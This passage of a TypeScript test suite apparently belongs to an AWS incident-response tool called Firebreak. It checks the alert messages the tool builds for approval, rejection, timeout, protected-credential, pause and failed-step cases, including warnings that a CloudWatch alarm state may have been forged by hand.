    const alarmEvent = structuredClone(fixtureEvent('gameday-cloudwatch-alarm-ec2-cpu.json')) as Record<string, unknown> & { detail: { state: { reason: string } } };
    alarmEvent.source = 'aws.cloudwatch';
    alarmEvent.detail.state.reason = 'Threshold Crossed: 1 out of the last 1 datapoints [99.9 (16/03/26 13:07:00)] was greater than the threshold (90.0)';
    const alarmIncident = parseEvent(alarmEvent, { receivedAt: NOW });
    const ALARM_REASON = "The incident is a CloudWatch alarm's state change, which anyone allowed cloudwatch:SetAlarmState can cause: a person must approve before anything changes.";
    const ALARM_GUARD = guardResult({
      incidentKey: alarmIncident.key,
      status: 'needs-approval',
      protected: false,
      protectedBy: undefined,
      instanceId: alarmIncident.resource.kind === 'ec2-instance' ? alarmIncident.resource.instanceId : undefined,
      reasons: [ALARM_REASON],
      blastRadius: { evaluated: true, granted: true, slotTaken: false, used: 1, limit: 5, windowSeconds: 3600 },
    });
    const input = parse({
      kind: 'approval-request',
      incident: alarmIncident,
      mode: 'enforce',
      playbook: 'cloudwatch-instance-alarm',
      options: {},
      execution: { ...EXECUTION, playbook: 'cloudwatch-instance-alarm' },
      results: { Guard: ALARM_GUARD },
      reasons: ALARM_GUARD.reasons,
      approval: { taskToken: 'token', waitingSteps: ['contain'], timeoutSeconds: 600 },
    });

    it("ATTACK (review-alarm): tells the approver the state may have been set by hand and how to tell: CloudTrail's SetAlarmState and the metric, never the alarm's history or reason", () => {
      const { message } = buildAlertMessage(input, { now: NOW });
      const decision = section(message, 'CONTAINMENT DECISION');
      // Not the playbook's rule: cloudwatch-instance-alarm does not require approval, the alarm does.
      expect(decision).not.toContain('This playbook requires a person to approve');
      expect(decision).toContain("The incident is a CloudWatch alarm's state change, which cloudwatch:SetAlarmState can cause by hand: containment waits for a person's decision.");
      const next = section(message, 'WHAT TO DO NEXT');
      expect(next).toContain(
        "1. Before approving, check whether someone set the alarm's state: CloudTrail's event history shows any SetAlarmState call on this alarm (event source monitoring.amazonaws.com), the CloudWatch console (link below) the metric's own datapoints. The alarm's reason and history repeat the caller's words and prove nothing. Approve only if the metric crossed the threshold and nobody set the state.",
      );
      expect(section(message, 'WHAT FIREBREAK DID NOT DO')).toContain("an alarm's state change is never contained without a person's approval");
    });

    it('ATTACK (review-alarm): an alarm event from the oversized-event intake is not approved on the alarm being in that state, which SetAlarmState makes true', () => {
      const intakeGuard = { ...ALARM_GUARD, intake: 'oversized-event' };
      const { message } = buildAlertMessage({ ...input, results: { Guard: intakeGuard } as AlertInput['results'] }, { now: NOW });
      const next = section(message, 'WHAT TO DO NEXT');
      expect(next).not.toContain('Approve only if CloudWatch shows the same alarm in the same state');
      expect(next).toContain(
        "1. The oversized-event intake takes whatever its callers send, so this alarm event may be forged. Before approving, check whether someone set the alarm's state: CloudTrail's event history shows any SetAlarmState call on this alarm",
      );
    });
  });

  it("ATTACK (review-boundary): never says an alarm's containment ran without an answer: the guard refuses its steps (row 10c)", () => {
    const summary = "Nobody answered the approval request within 900 s, and this playbook's onTimeout is contain: contain ran WITHOUT approval.";
    const input = guardedReport('timed-out-contained', summary, { approval: { Error: 'States.Timeout', Cause: '' } });
    const alarmInput = { ...input, incident: { ...input.incident!, source: 'cloudwatch' as const } };
    const { subject, message } = buildAlertMessage(alarmInput, { now: NOW });
    expect(subject.startsWith('[NOT CONTAINED: no answer] ')).toBe(true);
    expect(section(message, 'CONTAINMENT DECISION')).toContain(
      `This playbook's onTimeout is contain, but an alarm's state change is never contained without a person's approval: the steps that change resources were refused. Instance ${INSTANCE_ID} was NOT isolated.`,
    );
    expect(section(message, 'CONTAINMENT DECISION')).not.toContain('WITHOUT approval');
  });

  it('names who rejected containment and their note, and says the instance was not isolated', () => {
    const rejection = { Error: 'Firebreak.ApprovalRejected', Cause: JSON.stringify({ by: APPROVER, at: '2026-11-20T10:10:00.000Z', reason: 'known load test' }) };
    const { subject, message } = buildAlertMessage(
      guardedReport('rejected', REJECTED_SUMMARY, { approval: rejection }, BLAST_RADIUS_GUARD),
      { now: NOW },
    );
    expect(subject.startsWith('[NOT CONTAINED: rejected] High: ')).toBe(true);
    expect(section(message, 'CONTAINMENT DECISION')).toContain(
      `Containment was REJECTED by ${APPROVER} at 2026-11-20T10:10:00.000Z ("known load test"). Instance ${INSTANCE_ID} was NOT isolated`,
    );
    expect(section(message, 'WHAT FIREBREAK DID NOT DO')).toContain(`was NOT isolated: containment was rejected by ${APPROVER}.`);
    const next = section(message, 'WHAT TO DO NEXT');
    expect(next).toContain('1. Containment was not approved, so the instance is still running and connected');
    expect(next).not.toMatch(/is isolated/);
  });

  it('reads a hand-written rejection cause as plain text', () => {
    const rejection = { Error: 'Firebreak.ApprovalRejected', Cause: 'rejected by the on-call engineer' };
    const { message } = buildAlertMessage(guardedReport('rejected', REJECTED_SUMMARY, { approval: rejection }), { now: NOW });
    expect(section(message, 'CONTAINMENT DECISION')).toContain('Containment was REJECTED ("rejected by the on-call engineer").');
  });

  it('treats an answer without "approved": true as not approved, naming who sent it', () => {
    const { message } = buildAlertMessage(
      guardedReport('rejected', REJECTED_SUMMARY, { approval: { approved: false, by: APPROVER } }),
      { now: NOW },
    );
    expect(section(message, 'CONTAINMENT DECISION')).toContain(`Containment was not approved: the answer by ${APPROVER} did not say "approved": true.`);
    expect(section(message, 'WHAT FIREBREAK DID NOT DO')).toContain(`was NOT isolated: containment was not approved by ${APPROVER}.`);
  });

  it('says nobody answered within the timeout, and that the instance was not isolated', () => {
    const timeout = { Error: 'States.Timeout', Cause: '' };
    const { subject, message } = buildAlertMessage(guardedReport('timed-out', TIMED_OUT_SUMMARY, { approval: timeout }, BLAST_RADIUS_GUARD), { now: NOW });
    expect(subject.startsWith('[NOT CONTAINED: no answer] High: ')).toBe(true);
    expect(section(message, 'CONTAINMENT DECISION')).toContain(
      `Nobody answered the approval request within 900 s: evidence only (onTimeout: evidence-only). Instance ${INSTANCE_ID} was NOT isolated.`,
    );
    expect(section(message, 'WHAT FIREBREAK DID NOT DO')).toContain('was NOT isolated: nobody answered the approval request within 900 s.');
    expect(section(message, 'WHAT TO DO NEXT')).toContain('1. Nobody answered the approval request in time: the instance is still running and connected. Decide now');
  });

  it('says containment ran without approval when the timeout rule is contain, and keeps the playbook advice whole', () => {
    const summary = "Nobody answered the approval request within 900 s, and this playbook's onTimeout is contain: contain ran WITHOUT approval.";
    const input = report({
      options: { advice: ISOLATION_ADVICE },
      results: { Guard: BLAST_RADIUS_GUARD, evidence: SNAPSHOTTED, contain: QUARANTINED },
      reasons: BLAST_RADIUS_GUARD.reasons,
      reason: { outcome: 'timed-out-contained', summary, approval: { Error: 'States.Timeout', Cause: '' } },
    });
    const { subject, message } = buildAlertMessage(input, { now: NOW });
    expect(subject.startsWith('[CONTAINED WITHOUT APPROVAL] High: ')).toBe(true);
    expect(section(message, 'CONTAINMENT DECISION')).toContain('the steps that change resources ran WITHOUT approval');
    expect(section(message, 'WHAT TO DO NEXT')).toContain(`1. ${ISOLATION_ADVICE}`);
    expect(section(message, 'WHAT FIREBREAK DID NOT DO')).not.toContain('was NOT isolated');
  });

  it('names who approved containment, with no subject marker and the playbook advice whole', () => {
    const input = report({
      options: { advice: ISOLATION_ADVICE },
      results: { Guard: BLAST_RADIUS_GUARD, evidence: SNAPSHOTTED, contain: QUARANTINED },
      reasons: BLAST_RADIUS_GUARD.reasons,
      reason: {
        outcome: 'approved',
        summary: 'A person approved (firebreak approve): contain ran after the evidence steps.',
        approval: { approved: true, by: APPROVER, at: '2026-11-20T10:10:00.000Z', comment: 'go' },
      },
    });
    const { subject, message } = buildAlertMessage(input, { now: NOW });
    expect(subject.startsWith('High: ')).toBe(true);
    expect(section(message, 'CONTAINMENT DECISION')).toContain(`Containment was APPROVED by ${APPROVER} at 2026-11-20T10:10:00.000Z ("go")`);
    expect(section(message, 'WHAT TO DO NEXT')).toContain(`1. ${ISOLATION_ADVICE}`);
  });

  it('omits the playbook advice entirely when every sentence of it claims a containment', () => {
    const input = report({
      options: { advice: 'The instance is isolated. Its role sessions are revoked.' },
      results: { Guard: guardResult(), evidence: SNAPSHOTTED },
      reason: { outcome: 'evidence-only', summary: EVIDENCE_ONLY_SUMMARY },
    });
    const next = section(buildAlertMessage(input, { now: NOW }).message, 'WHAT TO DO NEXT');
    expect(next).not.toContain('If you contain it by hand');
    expect(next).not.toMatch(/isolated\.|revoked/);
  });

  it('says the changing steps did not run for an incident on no instance', () => {
    const incident = ec2Incident({ resource: { kind: 'access-key', accessKeyId: 'AKIAEXAMPLE', userName: 'ci', userType: 'IAMUser' } });
    const input = report({
      incident,
      results: { Guard: guardResult({ protected: false, protectedBy: undefined, instanceId: undefined, reasons: ['No instance to protect.'] }) },
      reason: { outcome: 'evidence-only', summary: EVIDENCE_ONLY_SUMMARY },
    });
    const { message } = buildAlertMessage(input, { now: NOW });
    expect(section(message, 'WHAT FIREBREAK DID NOT DO')).toContain('- The steps that change resources did NOT run: the containment guard answered evidence-only');
  });

  it('says a protected credential was not cut off, in words about a credential, and drops the advice sentence claiming the key is Inactive', () => {
    const incident = ec2Incident({ resource: { kind: 'access-key', accessKeyId: 'AKIAEXAMPLE', userName: 'payroll-loader', userType: 'IAMUser' } });
    const reason = 'The user payroll-loader is protected: it carries the tag firebreak:protected="" in IAM now.';
    const input = report({
      incident,
      options: { advice: 'The access key named above is Inactive (not deleted). Review CloudTrail for everything the key did.' },
      results: { Guard: guardResult({ protectedBy: 'credential-tag', instanceId: undefined, reasons: [reason] }) },
      reason: { outcome: 'evidence-only', summary: EVIDENCE_ONLY_SUMMARY },
    });
    const { subject, message } = buildAlertMessage(input, { now: NOW });
    expect(subject.startsWith('[NOT CONTAINED: protected] ')).toBe(true);
    const decision = section(message, 'CONTAINMENT DECISION');
    expect(decision).toContain('The credential is PROTECTED (its user or role carries the protected tag): Firebreak never cuts off a protected credential automatically. It was NOT disabled or revoked');
    expect(decision).not.toMatch(/instance|isolated/i);
    expect(section(message, 'WHAT FIREBREAK DID NOT DO')).toContain('- The steps that change resources did NOT run: its user or role is protected');
    const next = section(message, 'WHAT TO DO NEXT');
    expect(next).toContain('1. The credential is protected, so Firebreak left it working');
    expect(next).toContain('2. If you contain it by hand: Review CloudTrail for everything the key did.');
    expect(next).not.toContain('is Inactive');
  });

  it('says the guard let the playbook run as written on the proceed path, with no subject marker', () => {
    const guard = guardResult({
      status: 'proceed',
      protected: false,
      protectedBy: undefined,
      reasons: [`Blast radius: containment 1 of 5 in account ${ACCOUNT} within 3600 s (1 h).`],
    });
    const { subject, message } = buildAlertMessage(report({ results: { Guard: guard, contain: QUARANTINED, evidence: SNAPSHOTTED } }), { now: NOW });
    expect(subject.startsWith('High: ')).toBe(true);
    expect(section(message, 'CONTAINMENT DECISION')).toContain('The containment guard let the playbook run as written');
    expect(section(message, 'WHAT TO DO NEXT')).toContain('The instance is isolated: investigate from its snapshots');
  });

  it('keeps every marker first on a game-day dry-run, so that cutting the subject at 100 characters drops only the end', () => {
    const input = report({
      incident: drillIncident(),
      mode: 'dry-run',
      results: { Guard: guardResult() },
      reason: { outcome: 'evidence-only', summary: EVIDENCE_ONLY_SUMMARY },
    });
    const { subject } = buildAlertMessage(input, { now: NOW });
    // The finding type gives way, never the instance (review alert-review: it was cut to i-0abc1234d...).
    expect(subject).toBe('[GAME DAY][DRY-RUN][NOT CONTAINED: protected] High: Backdoor:EC2/C&C... on i-0abc1234def567890 -...');
    expect(subject.length).toBeLessThanOrEqual(100);
  });

  it('adds no decision section to the report of an unguarded playbook', () => {
    expect(buildAlertMessage(report(), { now: NOW }).message).not.toContain('CONTAINMENT DECISION');
  });
});

describe('alertInputSchema', () => {
  it('refuses a report without its incident, naming the field', () => {
    const parsed = alertInputSchema.safeParse({ kind: 'report', mode: 'enforce', options: {} });
    expect(parsed.success).toBe(false);
    expect(parsed.error?.issues[0]?.path).toEqual(['incident']);
  });

  it('refuses an approval request without the token', () => {
    expect(alertInputSchema.safeParse({ kind: 'approval-request', incident: ec2Incident(), mode: 'enforce' }).success).toBe(false);
  });

  it('refuses an unknown kind', () => {
    expect(alertInputSchema.safeParse({ kind: 'page-everyone', mode: 'enforce' }).success).toBe(false);
  });

  it('accepts results of responders it does not know, and steps that did not run', () => {
    const input = report({
      results: {
        custom: { responder: 'rotate-keys', status: 'rotated', actions: [action('iam:UpdateAccessKey', 'AKIA1', 'disabled', 'Key disabled.')], extra: { nested: true } },
        skipped: null,
      },
    });
    const { message } = buildAlertMessage(input, { now: NOW });
    expect(message).toContain('- [custom] disabled: iam:UpdateAccessKey on AKIA1: Key disabled.');
    expect(message).toContain('[skipped] did not run');
  });
});

describe('helpers', () => {
  it('describeCause reads a Lambda error cause and leaves plain text alone', () => {
    expect(describeCause('{"errorType":"TransientResponderError","errorMessage":"throttled","trace":[]}')).toBe('TransientResponderError: throttled');
    expect(describeCause('States.Timeout after 300 s')).toBe('States.Timeout after 300 s');
    expect(describeCause('')).toBeUndefined();
  });

  it('utf8Prefix never splits a multi-byte character', () => {
    expect(utf8Prefix('ééé', 5)).toEqual({ text: 'éé', truncated: true });
    expect(utf8Prefix('abc', 5)).toEqual({ text: 'abc', truncated: false });
  });
});

/** The lines of one section of the message: from its heading to the next blank line. */
function section(message: string, heading: string): string {
  const start = message.split('\n').findIndex((l) => l.startsWith(heading));
  if (start < 0) throw new Error(`no section "${heading}" in:\n${message}`);
  const lines = message.split('\n').slice(start);
  const end = lines.findIndex((l, i) => i > 0 && l === '');
  return (end < 0 ? lines : lines.slice(0, end)).join('\n');
}

describe('buildAlertMessage: the summary of a parallel group with a failed step', () => {
  const denied = { Error: 'ResponderAccessDeniedError', Cause: 'ec2:CreateSnapshots was denied (UnauthorizedOperation)' };
  /** What the compiled playbook's `<step>-summary-alert` sends: the results before the group, and every step of it as recorded. */
  function summary(steps: Record<string, unknown>, failed = { step: 'evidence', error: denied.Error, cause: denied.Cause }): AlertInput {
    return failure({ results: {}, group: { id: 'contain-and-preserve', failedStep: failed.step, steps }, failure: failed });
  }

  it('says plainly that the instance is contained when the sibling branch isolated it, and which step failed', () => {
    const { subject, message } = buildAlertMessage(summary({ contain: { result: QUARANTINED }, evidence: { failure: denied } }), { now: NOW });
    expect(subject.startsWith('[FAILED][CONTAINED] High:')).toBe(true);
    expect(message).toContain(`Instance ${INSTANCE_ID} IS contained: step contain (quarantine-instance) isolated it.`);
    expect(message).toContain('Parallel group contain-and-preserve: contain succeeded (quarantine-instance: quarantined); evidence FAILED (ResponderAccessDeniedError).');
    expect(section(message, 'WHAT FIREBREAK DID (playbook compromised-ec2, enforce)')).toContain('eni-0aaa1111bbbb2222c');
    const didNot = section(message, 'WHAT FIREBREAK DID NOT DO');
    expect(didNot).not.toContain('was NOT isolated');
    expect(didNot).toContain('Step evidence of parallel group contain-and-preserve failed: the steps after the group did not run.');
    // The evidence step ran and failed: "no evidence step ran" would be wrong, and so would advice to investigate from snapshots that do not exist.
    expect(didNot).toContain(`The volumes of ${INSTANCE_ID} were NOT snapshotted (no evidence step finished).`);
    const next = section(message, 'WHAT TO DO NEXT');
    expect(next).toContain('The instance is isolated, but Firebreak kept no evidence of it: snapshot its volumes by hand first');
    expect(next).not.toContain('investigate from its snapshots');
  });

  it('says the instance was NOT isolated when the containment step is the one that failed, and lists every failed step', () => {
    const contained = { Error: 'ResponderFailedError', Cause: 'InvalidGroup.NotFound' };
    const { subject, message } = buildAlertMessage(
      summary({ contain: { failure: contained }, evidence: { failure: denied } }, { step: 'contain', error: contained.Error, cause: contained.Cause }),
      { now: NOW },
    );
    expect(subject).not.toContain('CONTAINED');
    expect(message).toContain('Parallel group contain-and-preserve: contain FAILED (ResponderFailedError); evidence FAILED (ResponderAccessDeniedError).');
    expect(section(message, 'WHAT FAILED')).toContain('Also failed in group contain-and-preserve: evidence (ResponderAccessDeniedError)');
    expect(section(message, 'WHAT FIREBREAK DID NOT DO')).toContain(`Instance ${INSTANCE_ID} was NOT isolated`);
  });

  it('says CONTAINED on any failure alert whose results show the instance isolated, never in dry-run', () => {
    expect(buildAlertMessage(failure(), { now: NOW }).subject.startsWith('[FAILED][CONTAINED] High:')).toBe(true);
    const wouldHave = { ...QUARANTINED, mode: 'dry-run', actions: QUARANTINED.actions.map((a) => (a.outcome === 'done' ? { ...a, outcome: 'would-do' } : a)) };
    const dryRun = buildAlertMessage(failure({ mode: 'dry-run', results: { contain: wouldHave } }), { now: NOW });
    expect(dryRun.subject).not.toContain('CONTAINED');
    expect(dryRun.message).not.toContain('IS contained');
  });
});

describe('an alert of a containment the emergency pause held back', () => {
  const sentence = 'Firebreak is PAUSED: arn:aws:sts::111122223333:assumed-role/OnCall/alice paused automated containment at 2026-11-20T10:00:00.000Z (reason: "false positives"); no containment is enforced until firebreak resume';
  const guard = (api: string) => ({
    responder: 'containment-guard',
    incidentKey: ec2Incident().key,
    mode: 'dry-run',
    status: 'proceed',
    idempotentReplay: false,
    actions: [action(api, INSTANCE_ID, 'skipped', `${sentence}: this containment is cleared in dry-run only.`)],
  });

  it('says PAUSED in its subject and first lines, naming who paused, when and why', () => {
    const alert = buildAlertMessage(report({ results: { guard: guard('firebreak:emergency-pause'), contain: { ...QUARANTINED, mode: 'dry-run', status: 'dry-run', actions: [] } } }), { now: NOW });
    expect(alert.subject.startsWith('[PAUSED]')).toBe(true);
    expect(alert.message).toContain('PAUSED: containment ran as dry-run, nothing was contained. Firebreak is PAUSED: arn:aws:sts::111122223333:assumed-role/OnCall/alice paused automated containment');
  });

  it('says PAUSED in its subject when the guard cleared the execution before the pause and a containing step then ran dry-run under it', () => {
    const guardBefore = { ...guard('firebreak:blast-radius'), mode: 'enforce', actions: [action('firebreak:containment-guard', INSTANCE_ID, 'observed', 'proceed: Blast radius: containment 1 of 3.')] };
    const paused = {
      ...QUARANTINED,
      mode: 'dry-run',
      status: 'dry-run',
      forcedDryRun: { requested: 'enforce', reason: `The input asked for enforce, but ${sentence}: running as dry-run, nothing is changed.` },
      actions: [
        action('firebreak:check-grant', INSTANCE_ID, 'observed', `Cleared by the containment guard. ${sentence}.`),
        action('firebreak:emergency-pause', INSTANCE_ID, 'skipped', `${sentence}: this step acts in dry-run only, whatever mode its grant was issued in.`),
        action('firebreak:effective-mode', INSTANCE_ID, 'skipped', `The input asked for enforce, but ${sentence}: running as dry-run, nothing is changed.`),
      ],
    };
    const alert = buildAlertMessage(report({ results: { guard: guardBefore, contain: paused } }), { now: NOW });
    expect(alert.subject.startsWith('[PAUSED]')).toBe(true);
    expect(alert.message).toContain(`PAUSED: step contain ran as dry-run: Firebreak was paused after the containment guard cleared this execution. ${sentence}`);
    expect(alert.message).not.toContain('nothing was contained');
    // The same step in a dry-run execution: both markers.
    expect(buildAlertMessage(report({ mode: 'dry-run', results: { guard: guardBefore, contain: paused } }), { now: NOW }).subject.startsWith('[DRY-RUN][PAUSED]')).toBe(true);
  });

  it('does not say PAUSED when the guard recorded no pause (nor for another step that claims one)', () => {
    expect(buildAlertMessage(report(), { now: NOW }).subject).not.toContain('PAUSED');
    const claimed = { ...QUARANTINED, actions: [action('firebreak:emergency-pause', INSTANCE_ID, 'skipped', 'Firebreak is PAUSED')] };
    expect(buildAlertMessage(report({ results: { contain: claimed } }), { now: NOW }).subject).not.toContain('PAUSED');
  });
});
